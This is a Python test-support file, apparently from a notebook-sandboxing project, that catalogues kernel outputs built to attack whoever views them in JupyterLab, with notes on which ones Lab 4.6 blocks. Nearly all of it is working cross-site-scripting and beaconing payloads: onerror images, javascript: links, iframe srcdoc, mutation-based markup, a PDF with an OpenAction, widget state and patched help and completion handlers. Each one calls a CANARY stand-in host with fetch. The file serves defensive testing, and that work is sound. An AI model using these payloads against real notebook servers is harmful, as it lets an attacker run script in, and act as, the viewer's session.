"""Outputs that attack whoever looks at them: each is to make the page ask CANARY for its name.

What a kernel sends is on the screen of a person whose page may do on the server whatever that person may. An output
that runs a script there, or that only tells somebody that it was seen, has left the kernel's confinement.
"""

from __future__ import annotations

import importlib.util
from dataclasses import dataclass
from typing import Literal

from tests.support.lab import Notebook


@dataclass(frozen=True)
class Payload:
    """One attack."""

    code: str
    """A cell. CANARY stands for the address, NAME for the payload's name, RUN for JavaScript that goes there."""
    then: Literal["", "click", "tooltip", "complete"] = ""
    """What the victim does: click on everything in the output, or ask for help on `victim`."""
    needs: str = ""
    """The library that brings what shows it."""

    def cell(self, name: str, canary: str) -> str:
        run = "fetch(`CANARY/NAME`)"  # without quotation marks: it goes into all sorts of strings
        return self.code.replace("RUN", run).replace("NAME", name).replace("CANARY", canary)


async def look_at(notebook: Notebook, name: str, canary: str) -> None:
    """Run the cell of a payload in a notebook, and do what the payload waits for."""
    payload = HOSTILE[name]
    index = await notebook.start(payload.cell(name, canary))
    await notebook.finished(index)
    if payload.then == "click":
        await notebook.click_everything(index)
    elif payload.then == "tooltip":
        await notebook.tooltip("victim")
    elif payload.then == "complete":
        await notebook.complete("victim")


def _html(html: str, then: Literal["", "click"] = "") -> Payload:
    return _mime("text/html", html, then)


def _mime(mime: str, data: object, then: Literal["", "click"] = "", metadata: object = None) -> Payload:
    given = f", metadata={metadata!r}" if metadata else ""
    needs = "plotly" if "plotly" in mime else ""
    return Payload(f"display({{{mime!r}: {data!r}, 'text/plain': 'shown'}}, raw=True{given})", then, needs)


_ONERROR = '<img src="data:," onerror="RUN">'
_PDF = (
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R"
    "/OpenAction<</S/JavaScript/JS(app.launchURL('CANARY/NAME'))>>>>endobj\n"
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(CANARY/NAME)>>>>>>endobj\n"
    "trailer<</Root 1 0 R>>\n%%EOF"
)
_WIDGET = """\
from comm import create_comm
def _model(name, module="@jupyter-widgets/controls", **state):
    state = {"_model_module": module, "_model_module_version": "2.0.0", "_model_name": name + "Model",
             "_view_module": module, "_view_module_version": "2.0.0", "_view_name": name + "View", **state}
    return create_comm(target_name="jupyter.widget", data={"state": state, "buffer_paths": []},
                metadata={"version": "2.1.0"})
"""
_INSPECT = '''\
def _inspect(self, *_, **__):
    return {'status': 'ok', 'found': True, 'metadata': {}, 'data': {'text/html': """HTML""", 'text/plain': """HTML"""}}
type(get_ipython().kernel).do_inspect = _inspect  # what answers front ends: code in the kernel changes it as it likes
'''
_COMPLETE = '''\
def _complete(self, code, end):
    found = [{'text': name, 'type': """HTML""", 'signature': """HTML""", 'documentation': """HTML"""}
             for name in ('victim_one', 'victim_two')]
    return {'status': 'ok', 'matches': ['victim_one', 'victim_two'], 'cursor_start': 0, 'cursor_end': end,
            'metadata': {'_jupyter_types_experimental': found}}
type(get_ipython().kernel).do_complete = _complete
'''

HOSTILE: dict[str, Payload] = {
    # HTML that runs a script
    "html_repr_script": Payload(
        "class _Evil:\n    def _repr_html_(self):\n        return '<script>RUN</script>'\n_Evil()"
    ),
    "html_script": _html("<script>RUN</script>"),
    "html_script_src": _html('<script src="CANARY/NAME.js"></script>'),
    "html_script_module": _html('<script type="module">RUN</script>'),
    "html_img_onerror": _html(_ONERROR),
    "html_svg_onload": _html('<svg onload="RUN"></svg>'),
    "html_svg_animate": _html('<svg><animate onbegin="RUN" attributeName="x" dur="1s"></animate></svg>'),
    "html_details_toggle": _html('<details open ontoggle="RUN">x</details>'),
    "html_style_animation": _html(
        '<style>@keyframes k{from{left:0}}</style><b style="animation:k 1s" onanimationstart="RUN">x</b>'
    ),
    "html_autofocus": _html('<input autofocus onfocus="RUN">'),
    "html_iframe_srcdoc": _html('<iframe srcdoc="<script>RUN</script>"></iframe>'),
    "html_iframe_javascript": _html('<iframe src="javascript:RUN"></iframe>'),
    "html_iframe_data": _html('<iframe src="data:text/html,<script>RUN</script>"></iframe>'),
    "html_object_data": _html('<object data="data:text/html,<script>RUN</script>"></object>'),
    "html_link_javascript": _html('<a href="javascript:void RUN">link</a>', "click"),
    "html_button_onclick": _html('<button onclick="RUN">button</button>', "click"),
    "html_form_javascript": _html('<form action="javascript:void RUN"><button>button</button></form>', "click"),
    "html_isolated": _mime("text/html", "<script>RUN</script>", metadata={"text/html": {"isolated": True}}),
    "html_mutation": _html('<noscript><p title="</noscript><img src=data:, onerror=RUN>">'),
    # HTML that only tells that it is looked at, or takes the page elsewhere
    "html_img_src": _html('<img src="CANARY/NAME.png">'),
    "html_img_srcset": _html('<img srcset="CANARY/NAME.png 1x">'),
    "html_picture": _html('<picture><source srcset="CANARY/NAME.png"><img></picture>'),
    "html_svg_image": _html('<svg><image href="CANARY/NAME.png" width="9" height="9"/></svg>'),
    "html_svg_use": _html(
        '<svg><filter id="f"><feImage href="CANARY/NAME.png"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/></svg>'
    ),
    "html_iframe_src": Payload("from IPython.display import IFrame\nIFrame('CANARY/NAME', 99, 99)"),
    "html_object": _html('<object data="CANARY/NAME"></object>'),
    "html_embed": _html('<embed src="CANARY/NAME">'),
    "html_video": _html('<video src="CANARY/NAME.mp4" autoplay></video>'),
    "html_video_poster": _html('<video poster="CANARY/NAME.png"></video>'),
    "html_audio": _html('<audio src="CANARY/NAME.mp3" autoplay></audio>'),
    "html_source": _html('<video autoplay><source src="CANARY/NAME.mp4"></video>'),
    "html_track": _html(
        '<video autoplay src="data:video/mp4,"><track default kind="captions" src="CANARY/NAME"></video>'
    ),
    "html_input_image": _html('<input type="image" src="CANARY/NAME.png">'),
    "html_css_url": _html('<div style="background:url(CANARY/NAME.png);height:9px">x</div>'),
    "html_css_image_set": _html("<div style=\"background:image-set('CANARY/NAME.png' 1x);height:9px\">x</div>"),
    "html_style_import": _html('<style>@import url("CANARY/NAME.css");</style>'),
    "html_style_page": _html("<style>.jp-Notebook { background-image: url(CANARY/NAME.png) !important }</style>"),
    "html_link_stylesheet": _html('<link rel="stylesheet" href="CANARY/NAME.css">'),
    "html_link_prefetch": _html('<link rel="preload" as="image" href="CANARY/NAME.png">'),
    "html_body_background": _html('<table background="CANARY/NAME.png"><tr><td>x</td></tr></table>'),
    "html_meta_refresh": _html('<meta http-equiv="refresh" content="0;url=CANARY/NAME">'),
    "html_form": _html('<form action="CANARY/NAME" method="post"><button>button</button></form>', "click"),
    "html_link_ping": _html('<a href="#x" ping="CANARY/NAME">link</a>', "click"),
    # Lab carries out a command of its own when something with this attribute is clicked
    "html_command": _html(
        '<button data-commandlinker-command="help:open" '
        """data-commandlinker-args='{"text": "x", "url": "CANARY/NAME"}'>button</button>""",
        "click",
    ),
    # The other ways by which HTML comes
    "javascript": Payload("from IPython.display import Javascript\nJavascript('RUN')"),
    "javascript_text": _mime("text/javascript", "RUN"),
    "javascript_old": _mime("application/x-javascript", "RUN"),
    "svg_script": _mime(
        "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script></svg>'
    ),
    "svg_image": _mime(
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="CANARY/NAME.png" width="9" height="9"/></svg>',
    ),
    "svg_foreign": _mime(
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        + _ONERROR.replace(">", "/>")
        + "</body></foreignObject></svg>",
    ),
    "png_that_is_none": _mime("image/png", 'x" onerror="RUN'),
    "markdown_html": _mime("text/markdown", "*x*\n\n" + _ONERROR),
    "markdown_script": _mime("text/markdown", "*x*\n\n<script>RUN</script>"),
    "markdown_image": _mime("text/markdown", "![x](CANARY/NAME.png)"),
    "markdown_link": _mime("text/markdown", "[link](javascript:fetch(&#96;CANARY/NAME&#96;))", "click"),
    "markdown_mermaid": _mime("text/markdown", '```mermaid\ngraph TD\n  A["<img src=CANARY/NAME.png>"]\n```'),
    "markdown_latex": _mime("text/markdown", r"$\href{javascript:RUN}{x}$", "click"),
    "latex_link": _mime("text/latex", r"$\href{javascript:RUN}{x}$", "click"),
    "latex_style": _mime("text/latex", r"$\style{background-image:url(CANARY/NAME.png)}{x}$"),
    "latex_html": _mime("text/latex", _ONERROR),
    "mermaid_html": _mime("text/vnd.mermaid", 'graph TD\n  A["<img src=CANARY/NAME.png onerror=RUN>"]'),
    "mermaid_click": _mime("text/vnd.mermaid", 'graph TD\n  A-->B\n  click A href "javascript:RUN"', "click"),
    "vegalite_data": _mime(
        "application/vnd.vegalite.v5+json",
        {"data": {"url": "CANARY/NAME.json"}, "mark": "point", "encoding": {"x": {"field": "a", "type": "nominal"}}},
    ),
    "vega_image": _mime(
        "application/vnd.vega.v5+json",
        {
            "width": 9,
            "height": 9,
            "marks": [
                {
                    "type": "image",
                    "encode": {
                        "enter": {"url": {"value": "CANARY/NAME.png"}, "width": {"value": 9}, "height": {"value": 9}}
                    },
                }
            ],
        },
    ),
    "vega_link": _mime(
        "application/vnd.vega.v5+json",
        {
            "width": 99,
            "height": 99,
            "marks": [
                {
                    "type": "rect",
                    "encode": {
                        "enter": {
                            "href": {"value": "javascript:RUN"},
                            "width": {"value": 99},
                            "height": {"value": 99},
                            "fill": {"value": "red"},
                        }
                    },
                }
            ],
        },
        "click",
    ),
    "geojson_tiles": _mime(
        "application/geo+json",
        {"type": "Point", "coordinates": [0, 0]},
        metadata={"application/geo+json": {"url_template": "CANARY/NAME?{x}{y}{z}"}},
    ),
    "pdf": Payload(
        f"import base64\ndisplay({{'application/pdf': base64.b64encode({_PDF!r}.encode()).decode()}}, raw=True)"
    ),
    "json_html": _mime("application/json", {_ONERROR: _ONERROR}),
    "audio_mime": _mime("audio/mpeg", 'x"><img src="CANARY/NAME.png">'),
    "video_mime": _mime("video/mp4", 'x"><img src="CANARY/NAME.png">'),
    "plotly_html": Payload(
        "import plotly.graph_objects as go\n"
        "display({'text/html': go.Figure().to_html(include_plotlyjs='CANARY/NAME.js')}, raw=True)",
        needs="plotly",
    ),
    "plotly_image": _mime(
        "application/vnd.plotly.v1+json",
        {
            "data": [],
            "layout": {
                "images": [
                    {
                        "source": "CANARY/NAME.png",
                        "xref": "paper",
                        "yref": "paper",
                        "x": 0,
                        "y": 1,
                        "sizex": 1,
                        "sizey": 1,
                    }
                ]
            },
        },
    ),
    "plotly_link": _mime(
        "application/vnd.plotly.v1+json",
        {"data": [{"y": [1, 2]}], "layout": {"title": {"text": '<a href="javascript:RUN">link</a>'}}},
        "click",
    ),
    "plotly_map": _mime(
        "application/vnd.plotly.v1+json",
        {
            "data": [{"type": "scattermap", "lat": [1], "lon": [1]}],
            "layout": {
                "map": {
                    "style": {
                        "version": 8,
                        "layers": [{"id": "l", "type": "raster", "source": "s"}],
                        "sources": {"s": {"type": "raster", "tiles": ["CANARY/NAME?{x}{y}{z}"]}},
                    }
                }
            },
        },
    ),
    # Widgets: what the page makes out of the state that a comm sends
    "widget_html": Payload(
        "import ipywidgets\nipywidgets.HTML('''<img src='data:,' onerror='RUN'>''')",
        needs="ipywidgets",
    ),
    "widget_image": Payload(
        "import ipywidgets\nipywidgets.Image(value=b'CANARY/NAME.png', format='url')", needs="ipywidgets"
    ),
    "widget_description": Payload(
        "import ipywidgets\n"
        "ipywidgets.Text(description='''<img src='CANARY/NAME.png'>''', description_allow_html=True)",
        needs="ipywidgets",
    ),
    "widget_output": Payload(
        "import ipywidgets\nfrom IPython.display import HTML\n_out = ipywidgets.Output()\ndisplay(_out)\n"
        "with _out: display(HTML('''<img src='data:,' onerror='RUN'>'''))",
        needs="ipywidgets",
    ),
    "widget_by_hand": Payload(
        _WIDGET + "_layout = _model('Layout', '@jupyter-widgets/base', _view_name='LayoutView')\n"
        "_html = _model('HTML', value='''<img src='data:,' onerror='RUN'>''',\n"
        "               layout='IPY_MODEL_' + _layout.comm_id)\n"
        "display({'application/vnd.jupyter.widget-view+json': {'version_major': 2, 'version_minor': 0,\n"
        "         'model_id': _html.comm_id}, 'text/plain': 'shown'}, raw=True)",
        needs="ipywidgets",
    ),
    "comm_module": Payload(
        "from comm import create_comm\n_comm = create_comm(target_name='evil', target_module='CANARY/NAME.js')"
    ),
    # The other messages of a kernel
    "update_display": Payload(
        "from IPython.display import HTML\n_shown = display('x', display_id=True)\n"
        "_shown.update(HTML('''<img src='data:,' onerror='RUN'>'''))"
    ),
    "error_value": Payload("raise Exception('''<img src='data:,' onerror='RUN'>''')"),
    "error_traceback": Payload(
        "class _Evil(Exception):\n    def _render_traceback_(self):\n"
        "        return ['''<img src='data:,' onerror='RUN'>''', 'javascript:RUN']\n"
        "raise _Evil",
        "click",
    ),
    "stream": Payload(
        "print('''<img src='data:,' onerror='RUN'> javascript:RUN\n"
        "\\x1b[31m<img src='CANARY/NAME.png'>\\x1b]8;;javascript:RUN\\x07link\\x1b]8;;\\x07''')",
        "click",
    ),
    "plain_text": _mime("text/plain", _ONERROR + " javascript:RUN", "click"),
    "page": Payload(
        "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0, 'data': {\n"
        "    'text/html': '''<img src='data:,' onerror='RUN'>'''}})"
    ),
    "help_script": Payload(_INSPECT.replace("HTML", _ONERROR), "tooltip"),
    "help_image": Payload(_INSPECT.replace("HTML", '<img src="CANARY/NAME.png">'), "tooltip"),
    "completion_script": Payload(_INSPECT.replace("HTML", _ONERROR) + _COMPLETE.replace("HTML", _ONERROR), "complete"),
    "completion_image": Payload(
        _INSPECT.replace("HTML", '<img src="CANARY/NAME.png">')
        + _COMPLETE.replace("HTML", '<img src="CANARY/NAME.png">'),
        "complete",
    ),
}

STOPPED_BY_LAB = frozenset(
    {
        # Browsers do not do it in HTML that is put into a page
        "html_svg_onload",
        "html_autofocus",
        "html_track",
        "html_link_javascript",  # opens in another window, where it may not run
        "markdown_link",
        # Text for Lab, or of a type that it does not know
        "javascript_old",
        "latex_html",
        "json_html",
        "geojson_tiles",
        "audio_mime",
        "video_mime",
        "error_value",
        "error_traceback",
        "stream",
        "plain_text",
        # In an image nothing runs and nothing is loaded
        "svg_script",
        "svg_image",
        "svg_foreign",
        "png_that_is_none",
        # What shows it takes it out
        "markdown_latex",
        "latex_link",
        "latex_style",
        "mermaid_click",
        "vega_link",
        "plotly_link",
        "pdf",
        "comm_module",  # only where a page has RequireJS
        # Help is not trusted as outputs are: no scripts
        "help_script",
        "completion_script",
        "completion_image",
    }
)
"""What does nothing in JupyterLab 4.6 even if the kernel hides nothing. Other versions and programs are not Lab 4.6."""

FIRES = frozenset(HOSTILE) - STOPPED_BY_LAB
"""What reaches CANARY with an ordinary kernel. Where these do not arrive, it is not because nobody looked."""


def showable() -> list[str]:
    """The payloads whose libraries are there."""
    return [name for name, payload in HOSTILE.items() if not payload.needs or importlib.util.find_spec(payload.needs)]
